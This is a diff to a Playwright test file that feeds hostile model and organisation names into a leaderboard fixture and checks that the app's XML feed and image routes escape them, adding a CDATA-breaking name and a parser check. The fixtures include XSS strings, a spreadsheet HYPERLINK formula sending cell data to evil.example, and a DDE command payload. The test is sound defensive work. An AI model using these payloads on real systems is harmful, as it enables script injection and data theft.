@@ -4,6 +4,7 @@
 import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
 import path from "node:path";
 import { expect, test, type Page } from "@playwright/test";
+import { SaxesParser } from "saxes";
 import { ARENA_TYPES, arenaRow, createHubFixture, HF_TYPES, hfRow, toParquet, type HubFixture } from "../fixtures/hub-fixture";
 import { createTestDatabase, startInstance, type AppInstance, type TestDatabase } from "./app-instance";
 import { appRoutes } from "./routes";
@@ -15,13 +16,22 @@ const EVIL_MODEL = `<img src=x onerror="window.__xss=1">`;
 const EVIL_ORG = `"><script>window.__xss=2</script>`;
 const FORMULA_MODEL = `=HYPERLINK("http://evil.example/?"&A1,"x")`;
 const EVIL_HF = `evil"><svg onload=window.__xss=3>/@SUM(1+1)`;
+const CDATA_MODEL = `q]]>x]]><injected a="1"/>`;
 
 async function hostileMirror(): Promise<HubFixture> {
   const date = "2025-05-01";
+  const next = "2025-05-08";
+  const first = (d: string) => [
+    arenaRow(EVIL_MODEL, 1, d, { organization: EVIL_ORG, rating: 1400, license: "+cmd|' /C calc'!A0" }),
+    arenaRow(FORMULA_MODEL, 2, d, { organization: "@SUM(1+1)", rating: 1390 }),
+    arenaRow("gpt-4o-2024-05-13", 3, d, { organization: "OpenAI", rating: 1300 }),
+  ];
+  // On the second date a Chinese model with a key that closes CDATA sections twice reaches the top: its milestones
+  // put the key into the feed's titles.
   const arena = [
-    arenaRow(EVIL_MODEL, 1, date, { organization: EVIL_ORG, rating: 1400, license: "+cmd|' /C calc'!A0" }),
-    arenaRow(FORMULA_MODEL, 2, date, { organization: "@SUM(1+1)", rating: 1390 }),
-    arenaRow("gpt-4o-2024-05-13", 3, date, { organization: "OpenAI", rating: 1300 }),
+    ...first(date),
+    arenaRow(CDATA_MODEL, 1, next, { organization: "DeepSeek", rating: 1410 }),
+    ...first(next).map((r, i) => ({ ...r, rank: BigInt(i + 2) })),
   ];
   return createHubFixture({
     arena: [
@@ -146,6 +156,20 @@ test("hostile names are escaped in the feed and OG images draw without running a
     expect(xml).not.toContain("<script");
     expect(xml).not.toContain("<img");
     expect(xml).not.toContain("<svg onload");
+    // A conforming parser reads it whole: no injected element, and the hostile key back as text in a title.
+    const elements: string[] = [];
+    const titles: string[] = [];
+    let text = "";
+    const parser = new SaxesParser();
+    parser.on("error", (err) => {
+      throw err;
+    });
+    parser.on("opentag", (t) => (elements.push(t.name), (text = "")));
+    parser.on("text", (t) => (text += t));
+    parser.on("closetag", (t) => t.name === "title" && titles.push(text));
+    parser.write(xml).close();
+    expect(elements).not.toContain("injected");
+    expect(titles.some((t) => t.includes(CDATA_MODEL))).toBe(true);
   }
   const images = routes.filter((r) => r.kind === "image");
   test.info().annotations.push({ type: "og", description: `${images.length} image routes` });
